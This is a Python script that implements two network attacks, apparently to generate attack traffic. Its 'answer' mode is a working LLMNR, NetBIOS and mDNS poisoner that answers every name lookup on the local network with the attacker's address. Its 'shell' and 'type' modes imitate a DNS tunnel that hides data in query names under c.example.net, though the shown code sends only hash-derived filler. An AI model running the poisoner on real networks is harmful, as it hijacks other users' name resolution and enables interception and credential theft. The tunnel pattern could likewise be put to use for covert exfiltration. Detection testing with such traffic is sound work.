#!/usr/bin/env python3
"""Two attacks that no package of Debian carries out, each with both ends.

name_attacks.py answer OWN    answer whoever asks everybody (LLMNR, NetBIOS names, mDNS) with OWN, as poisoners do
name_attacks.py ask OWN       ask for eight names that nobody has, by each of the three
name_attacks.py shell OWN     a name server whose answers carry a command's output
name_attacks.py type SERVER   its client: what is typed goes out in the names of questions"""
import hashlib, select, socket, struct, sys

LLMNR, NETBIOS, MDNS = ("224.0.0.252", 5355), ("10.20.255.255", 137), ("224.0.0.251", 5353)
NAMES = ["wpad", "printsrv", "filesrv1", "fileserv", "intranet", "prokxy", "mailsrv", "backupp"]
A, NB, TXT = 1, 0x20, 16


def labels(name):
    return b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"


def netbios(name):  # RFC 1001, section 14.1
    padded = name.upper().ljust(15).encode() + b"\0"
    return b"\x20" + bytes(0x41 + half for byte in padded for half in (byte >> 4, byte & 15)) + b"\0"


def question(ident, flags, name, kind):
    return struct.pack("!6H", ident, flags, 1, 0, 0, 0) + name + struct.pack("!2H", kind, 1)


def answer(query, flags, kind, data, ttl=30, asked=True):
    name = query[12:query.index(b"\0", 12) + 1]
    head = query[:2] + struct.pack("!5H", flags, int(asked), 1, 0, 0)
    return head + (name + struct.pack("!2H", kind, 1) if asked else b"") + name + struct.pack("!2HIH", kind, 1, ttl, len(data)) + data


def listen(port, group=None, own=None):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", port))
    if group:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(own))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def poison(own):
    me = socket.inet_aton(own)
    llmnr, names, mdns = listen(5355, LLMNR[0], own), listen(137), listen(5353, MDNS[0], own)
    while True:
        for s in select.select([llmnr, names, mdns], [], [])[0]:
            query, peer = s.recvfrom(1500)
            if query[2] & 0x80 or peer[0] == own:
                continue
            if s is llmnr:
                s.sendto(answer(query, 0x8000, A, me), peer)
            elif s is names:  # RFC 1002, section 4.2.13: no question, flags and address
                s.sendto(answer(query, 0x8500, NB, b"\0\0" + me, 165, False), peer)
            else:
                s.sendto(answer(query, 0x8400, A, me, 120, False), MDNS)


def ask(own):
    for number, name in enumerate(NAMES):
        s = listen(0, LLMNR[0], own)
        s.sendto(question(100 + number, 0, labels(name), A), LLMNR)
        s.settimeout(20)
        s.recvfrom(1500)
        n = listen(137)
        n.sendto(question(200 + number, 0x110, netbios(name), NB), NETBIOS)
        n.settimeout(20)
        n.recvfrom(1500)
        m = listen(5353, MDNS[0], own)
        m.sendto(question(0, 0, labels(name + ".local"), A), MDNS)
        m.settimeout(20)
        m.recvfrom(1500)


def stream(word, n):
    return hashlib.shake_128(word.encode()).digest(n).hex()


def shell(own):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((own, 53))
    count = 0
    while True:
        query, peer = s.recvfrom(1500)
        count += 1
        text = stream("out%d" % count, 60).encode()
        s.sendto(answer(query, 0x8400, TXT, bytes([len(text)]) + text, 0), peer)


def type_in(server):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(20)
    for count in range(60):
        data = stream("in%d" % count, 45)
        s.sendto(question(3000 + count, 0x100, labels(data[:60] + "." + data[60:] + ".c.example.net"), TXT), (server, 53))
        s.recvfrom(1500)


if __name__ == "__main__":
    {"answer": poison, "ask": ask, "shell": shell, "type": type_in}[sys.argv[1]](sys.argv[2])
